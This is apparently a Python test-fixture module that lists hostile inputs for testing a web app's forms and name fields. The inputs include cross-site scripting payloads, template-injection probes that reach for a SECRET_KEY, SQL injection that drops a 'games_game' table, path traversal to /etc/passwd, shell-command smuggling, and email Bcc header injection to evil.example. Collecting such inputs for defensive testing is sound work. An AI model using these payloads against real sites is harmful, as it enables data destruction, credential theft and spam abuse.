"""Text that means harm: what people might call themselves, and what might stand in a form."""

SCRIPTS = """
<script>alert(1)</script>
<script src=//e.io></script>
<script>alert`1`</script>
<SCRIPT>alert(1)</SCRIPT>
<scr<script>ipt>alert(1)
<script/x>alert(1)</script>
<script\t>alert(1)</script>
</script><script>alert(1)
<!--<script>alert(1)//-->
<img src=x onerror=alert(1)>
<img src onerror=alert(1)>
<img/src=x/onerror=alert(1)>
<IMG SRC=x ONERROR=alert(1)>
<image src=x onerror=alert(1)>
<img src=x:x onerror=alert(1)>
"><img src=x onerror=alert(1)
'><img src=x onerror=alert(1)
`><img src=x onerror=alert(1)
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)
<svg><a href=javascript:alert(1)
<svg><animate onbegin=alert(1)
<svg><set onbegin=alert(1)>
</svg><script>alert(1)
</title><svg onload=alert(1)>
</text><script>alert(1)
</desc><svg onload=alert(1)>
</style><svg onload=alert(1)>
</textarea><svg onload=alert(1)
</pre><svg onload=alert(1)>
]]><svg onload=alert(1)>
<![CDATA[<svg onload=alert(1)>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<iframe src=javascript:alert(1)
<iframe srcdoc='<script>'>
<iframe onload=alert(1)>
<embed src=javascript:alert(1)>
<object data=javascript:alert(1)
<a href=javascript:alert(1)>x
<a href="jav&#x09;ascript:x">x
<a href=data:text/html,x>x</a>
<base href=//evil.example>
<base href=javascript:alert(1)
<meta http-equiv=refresh>
<meta name=referrer content=all>
<link rel=stylesheet href=//e.io>
<style>*{display:none}</style>
<style>@import'//e.io'</style>
<input autofocus onfocus=alert(1)
<select autofocus onfocus=alert(1)
<textarea autofocus onfocus=a()>
<keygen autofocus onfocus=a()>
<details open ontoggle=alert(1)>
<video src onerror=alert(1)>
<audio src onerror=alert(1)>
<video><source onerror=alert(1)>
<marquee onstart=alert(1)>
<math><mi xlink:href=javascript:a
<form action=javascript:alert(1)
<button formaction=javascript:a
<form id=test><input name=action>
<isindex action=javascript:a()>
<table background=javascript:a>
<div style=width:expression(a)>
<div onmouseover=alert(1)>x
<x onclick=alert(1)>x</x>
<x contenteditable onblur=a()>
" onmouseover="alert(1)
' onmouseover='alert(1)
" autofocus onfocus="alert(1)
" style="position:fixed
x" hx-get="/sign-out
x" hx-on:click="alert(1)
x" data-hx-get="//evil.example
javascript:alert(1)
JaVaScRiPt:alert(1)
java\tscript:alert(1)
vbscript:msgbox(1)
data:text/html,<script>a()
&lt;script&gt;alert(1)
&#60;script&#62;alert(1)
&#x3C;script&#x3E;alert(1)
%3Cscript%3Ealert(1)
\\u003cscript\\u003ealert(1)
\\x3cscript\\x3ealert(1)
+ADw-script+AD4-alert(1)
＜script＞alert(1)＜/script＞
<%00script>alert(1)
<<script>alert(1)//<
<a<b<c
-->
<!--
<?php echo 1 ?>
<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY y "z">]>
&entity;
&amp;amp;
{{ 7*7 }}
{{ settings.SECRET_KEY }}
{% debug %}
{% load x %}
{# x #}
${7*7}
#{7*7}
<%= 7*7 %>
{0.__class__}
{name}
%(name)s
%s%s%s%n
%x%x
__class__
__proto__
constructor
' OR 1=1 --
'; DROP TABLE games_game; --
" UNION SELECT 1 --
1); SELECT pg_sleep(9); --
\\
\\'
\\"
../../../etc/passwd
..\\..\\windows
/dev/null
|ls
;ls
`ls`
$(ls)
=1+1
@SUM(1)
-1
NaN
Infinity
null
undefined
true
[object Object]
[link](javascript:alert(1))
![x](//evil.example/x.png)
**bold** _and_ `code`
<!channel>
@everyone
@here
<@U123>
https://evil.example/
www.evil.example
mailto:x@evil.example
x@evil.example
To: x@evil.example
Bcc: x@evil.example
=?utf-8?b?PHNjcmlwdD4=?=
=0D=0ABcc: x@evil.example
%0d%0aBcc: x@evil.example
.
..
--
-- x
""".strip().split("\n")

LINES = [
    "x\r\nBcc: x@evil.example",
    "x\nSubject: x",
    "x\r\n\r\nx",
    "x\n.\nx",
    "\r",
    "\n",
    "x\x0bx",
    "x\x0cx",
    "x\u2028x",
]
DIRECTIONS = [
    f"x{chr(sign)}y" for sign in (0x61C, *range(0x200E, 0x2010), *range(0x202A, 0x202F), *range(0x2066, 0x206A))
]
CONTROLS = [f"x{chr(sign)}y" for sign in (*range(1, 9), *range(0xE, 0x20), *range(0x7F, 0xA0))]
UNSEEN = [
    f"x{sign}y" for sign in "\xad\u034f\u115f\u180e\u200b\u200c\u200d\u2060\u3164\ufe0f\ufeff\uffa0\ufffc\U000e0041"
]
HEAPS = [
    "e" + "\u0301" * 29,
    "\ufdfd" * 30,
    "W" * 30,
    "i" * 30,
    "👨\u200d👩\u200d👧",
    "שלום abc",
    "مرحبا 123",
    "Ǆ",
    "ß",
    "İ",
    "ﬁ",
]

NAMES = [name[:30] for name in (*SCRIPTS, *LINES, *DIRECTIONS, *CONTROLS, *UNSEEN, *HEAPS)]
"""What a database could hold as a name, whatever is refused on the way in."""

NUMBERS = ["", " ", "-1", "1e9", "0x10", "1_0", "１２", "9" * 5_000, "2147483648", "9223372036854775808", "NaN", "∞"]
JSON = ["[" * 9_000, "{}", '{"a":' * 900, "[1,2", '"\\ud800"', "1e999", '{"type":"end"}', "null"]
TEXTS = [*NUMBERS, *JSON, "\x00", "x\x00y", *LINES, *SCRIPTS[::12], "x" * 20_000]
"""What might stand in any field of a form."""

BYTES = [b"\xff\xfe", b"\xed\xa0\x80", b"\xc0\xaf", b"%", b"%zz", b"%00", b"%ff", b"&&==&", b"=", b"\x00" * 99]
"""What might stand in a form in place of text."""
